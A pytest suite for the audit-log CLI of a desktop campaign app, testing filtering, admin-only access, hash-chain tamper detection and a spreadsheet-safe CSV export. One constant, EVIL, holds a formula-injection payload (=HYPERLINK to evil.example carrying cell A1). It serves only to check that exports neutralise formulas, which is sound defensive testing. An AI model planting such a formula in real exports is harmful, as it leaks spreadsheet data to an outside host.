"""``audit list|export|verify`` through the real CLI entry point on a real SQLite file."""

from __future__ import annotations

import csv
import json
from collections.abc import Callable
from pathlib import Path

import pytest
from sqlalchemy import text, update

from engage_desktop.cli.main import main
from engage_desktop.core.campaigns.edit import save_draft
from engage_desktop.core.campaigns.model import CampaignDraft, Variant
from engage_desktop.core.workspace import Workspace
from engage_desktop.security.audit import record
from engage_desktop.store.models import MemberRole, Role
from tests.support.apps import colleague
from tests.support.sending import seed_app

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'


def _history(ws: Workspace) -> tuple[str, int, int]:
    """Entries by two members on two apps, one campaign named like a spreadsheet formula."""
    app_id = seed_app(ws, 0)
    other_app = seed_app(ws, 0, project="pixel-quest")
    marketer = colleague(ws, "marion", Role.MARKETER, app_id)
    draft = CampaignDraft(
        app_id=app_id, name=EVIL, format="push", variants=(Variant("A", 1.0, {"title": "t"}),)
    )
    with marketer.session() as session:
        save_draft(session, marketer.member_id, draft)
    with ws.session() as session:
        record(session, member_id=ws.member_id, app_id=other_app, action="app.update")
        record(session, member_id=ws.member_id, app_id=None, action="member.add")
    return str(ws.location.sqlite_path), app_id, other_app


def test_list_filters_by_app_member_action_and_date(
    make_workspace: Callable[..., Workspace], capsys: pytest.CaptureFixture[str]
) -> None:
    ws = make_workspace()
    path, app_id, _other = _history(ws)
    login = ws.member().login
    assert main(["audit", "list", "--json", "--workspace", path]) == 0
    everything = json.loads(capsys.readouterr().out)
    assert [e["action"] for e in everything] == ["member.add", "app.update", "campaign.create"]
    assert everything[2]["member"] == "marion" and everything[2]["app"] == "App demo-project"
    cases = {
        ("--app", str(app_id)): ["campaign.create"],
        ("--member", login): ["member.add", "app.update"],
        ("--action", "campaign"): ["campaign.create"],
        ("--action", "app.update"): ["app.update"],
        ("--action", "app"): ["app.update"],
        ("--since", "2999-01-01"): [],
    }
    for extra, expected in cases.items():
        assert main(["audit", "list", "--json", *extra, "--workspace", path]) == 0
        assert [e["action"] for e in json.loads(capsys.readouterr().out)] == expected, extra
    assert main(["audit", "list", "--limit", "1", "--workspace", path]) == 0
    out = capsys.readouterr().out.splitlines()
    assert len(out) == 1 and out[0].startswith("#3 ") and "member.add" in out[0]


def test_a_bad_date_is_named(
    make_workspace: Callable[..., Workspace], capsys: pytest.CaptureFixture[str]
) -> None:
    path = str(make_workspace().location.sqlite_path)
    with pytest.raises(SystemExit):
        main(["audit", "list", "--since", "31/12/2026", "--workspace", path])
    assert "'31/12/2026' is not a date like 2026-12-01" in capsys.readouterr().err


def test_export_writes_a_spreadsheet_safe_csv_and_is_audited(
    make_workspace: Callable[..., Workspace],
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
) -> None:
    ws = make_workspace()
    path, _app, _other = _history(ws)
    out = tmp_path / "audit.csv"
    assert main(["audit", "export", "--out", str(out), "--workspace", path]) == 0
    assert "Wrote 3 entries" in capsys.readouterr().out
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # a French Excel opens it as UTF-8
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines(), delimiter=";"))
    assert rows[0] == [
        "seq",
        "at",
        "member",
        "app_id",
        "app",
        "action",
        "target",
        "target_name",
        "details",
    ]
    assert [r[5] for r in rows[1:]] == ["campaign.create", "app.update", "member.add"]
    details = json.loads(rows[1][8])
    assert details == {"name": EVIL}  # inside JSON the cell starts with "{": inert
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    assert not list(tmp_path.glob("*.part"))
    assert main(["audit", "list", "--json", "--action", "audit", "--workspace", path]) == 0
    (entry,) = json.loads(capsys.readouterr().out)
    assert entry["details"]["rows"] == 3 and entry["target"] == "audit.csv"


def test_verify_says_the_chain_holds_then_names_the_edited_entry(
    make_workspace: Callable[..., Workspace], capsys: pytest.CaptureFixture[str]
) -> None:
    ws = make_workspace()
    path, _app, _other = _history(ws)
    assert main(["audit", "verify", "--workspace", path]) == 0
    assert "holds: 3 entries checked" in capsys.readouterr().out
    with ws.engine.begin() as conn:
        conn.execute(text("DROP TRIGGER audit_log_no_update"))
        conn.execute(text("UPDATE audit_log SET member_login = 'someone' WHERE seq = 2"))
    assert main(["audit", "verify", "--workspace", path]) == 1
    assert "entry #2 (id 2) does not match its hash" in capsys.readouterr().out
    assert main(["audit", "verify", "--json", "--workspace", path]) == 1
    report = json.loads(capsys.readouterr().out)
    assert report["ok"] is False and report["checked"] == 1
    assert report["broken"]["problem"] == "changed" and report["broken"]["seq"] == 2


def test_only_admins_read_the_log(
    make_workspace: Callable[..., Workspace], capsys: pytest.CaptureFixture[str]
) -> None:
    ws = make_workspace()
    path, _app, _other = _history(ws)
    with ws.session() as session:
        session.execute(
            update(MemberRole).where(MemberRole.member_id == ws.member_id).values(role=Role.ANALYST)
        )
    for command in (["list"], ["verify"], ["export", "--out", "x.csv"]):
        assert main(["audit", *command, "--workspace", path]) == 1
        assert "Only the admins of an app read the audit log" in capsys.readouterr().err


def test_charts_and_tables_taken_offline_are_in_the_audit_log(
    make_workspace: Callable[..., Workspace], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Found in the audit of issue 15: segment and audit-log exports were recorded, but charts,
    their tables and campaign reports left the workspace without an entry."""
    ws = make_workspace()
    app_id = seed_app(ws, 0)
    path = str(ws.location.sqlite_path)
    for name in ("heures.csv", "heures.png"):
        out = str(tmp_path / name)
        argv = ["chart", "open-hours", "--app", str(app_id), "--out", out, "--workspace", path]
        assert main(argv) == 0, capsys.readouterr().err
    capsys.readouterr()
    assert main(["audit", "list", "--json", "--action", "analytics", "--workspace", path]) == 0
    entries = json.loads(capsys.readouterr().out)
    assert [(e["action"], e["target"], e["details"]) for e in entries] == [
        ("analytics.export", "heures.png", {"what": "chart:OpenHoursChart", "format": "png"}),
        ("analytics.export", "heures.csv", {"what": "table:OpenHoursChart", "format": "csv"}),
    ]
